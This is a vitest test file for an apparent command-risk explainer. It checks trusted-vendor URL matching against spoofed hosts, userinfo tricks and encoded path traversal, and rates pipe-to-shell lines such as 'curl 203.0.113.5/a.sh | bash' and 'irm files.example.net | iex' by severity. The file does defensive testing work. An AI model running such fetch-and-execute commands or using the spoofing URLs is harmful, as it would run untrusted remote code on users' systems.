import { describe, expect, it } from "vitest";
import { builtinCatalog } from "../catalog/load.ts";
import { explain } from "../pipeline/explain.ts";
import { isOfMaker } from "./makers.ts";

describe("an address of a maker", () => {
  it.each([
    "https://nodejs.org/dist/v22.0.0/node-v22.0.0-x64.msi",
    "HTTPS://NODEJS.ORG/dist/a.msi",
    "https://au.download.windowsupdate.com/c/a.cab",
    "https://github.com/git-for-windows/git/releases/download/v2.50.0/Git-64-bit.exe",
    "https://raw.githubusercontent.com/ohmyzsh/ohmyzsh/master/tools/install.sh",
    "https://raw.githubusercontent.com/nvm-sh/nvm/v0.40.3/install.sh",
    "https://raw.github.com/ohmyzsh/ohmyzsh/master/tools/install.sh",
    "https://storage.googleapis.com/golang/go1.22.5.windows-amd64.msi",
    "https://repo.anaconda.com/miniconda/Miniconda3-latest-Windows-x86_64.exe",
  ])("%s", (address) => expect(isOfMaker(address)).toBe(true));

  it.each([
    ["a host that only begins so", "https://nodejs.org.example.net/a.msi"],
    ["a host that only ends so", "https://notnodejs.org/a.msi"],
    ["a name before the host", "https://nodejs.org@example.net/a.msi"],
    ["another port", "https://nodejs.org:8443/a.msi"],
    ["what anybody on the way can change", "http://nodejs.org/a.msi"],
    ["a stranger's repository", "https://raw.githubusercontent.com/stranger/ohmyzsh/master/tools/install.sh"],
    ["a stranger's commit under the project's name", "https://raw.githubusercontent.com/ohmyzsh/ohmyzsh/0a1b2c3d/a.sh"],
    [
      "a stranger's proposal under the project's name",
      "https://raw.githubusercontent.com/ohmyzsh/ohmyzsh/refs/pull/1/head/a.sh",
    ],
    [
      "a way out of the project",
      "https://raw.githubusercontent.com/ohmyzsh/ohmyzsh/master/../../../stranger/x/main/a.sh",
    ],
    [
      "the same, escaped",
      "https://raw.githubusercontent.com/ohmyzsh/ohmyzsh/master/%2e%2e/%2e%2e/%2e%2e/stranger/x/main/a.sh",
    ],
    ["a project's files that are no release", "https://github.com/git-for-windows/git/raw/main/a.exe"],
    ["a stranger's store beside a maker's", "https://storage.googleapis.com/golang-tools/go.msi"],
    ["a way out of a maker's store", "https://storage.googleapis.com/golang/../stranger/go.msi"],
    ["what a maker keeps for strangers", "https://cloud.r-project.org/src/contrib/kiwi.tar.gz"],
    ["no address", "nodejs.org/a.msi"],
  ])("is not %s", (_, address) => expect(isOfMaker(address)).toBe(false));
});

describe("an address that is written without its scheme", () => {
  const shown = (commandLine: string, platform: "windows" | "linux") => {
    const { verdict, invocations } = explain({ commandLine, platform }, builtinCatalog()).explanation;
    const runs = invocations.flatMap((one) => one.behaviours).flatMap((one) => one.runs);
    return { ...verdict, at: runs.find(({ where }) => where === "web")?.resolved };
  };

  it.each([
    ['powershell -Command "irm get.scoop.sh | iex"', "windows", "low", "http://get.scoop.sh/"],
    ['powershell -Command "irm files.example.net | iex"', "windows", "critical", "http://files.example.net/"],
    ["curl get.docker.com | sh", "linux", "informational", "http://get.docker.com/"],
    ["curl -fsSL raw.example.net/kit/a.sh | bash", "linux", "medium", "http://raw.example.net/kit/a.sh"],
    ["curl 203.0.113.5/a.sh | bash", "linux", "high", "http://203.0.113.5/a.sh"],
  ] as const)("%s", (line, platform, level, at) => {
    const { text, ...found } = shown(line, platform);
    expect(found).toMatchObject({ level, at });
    expect(text).not.toContain("working directory");
  });
});
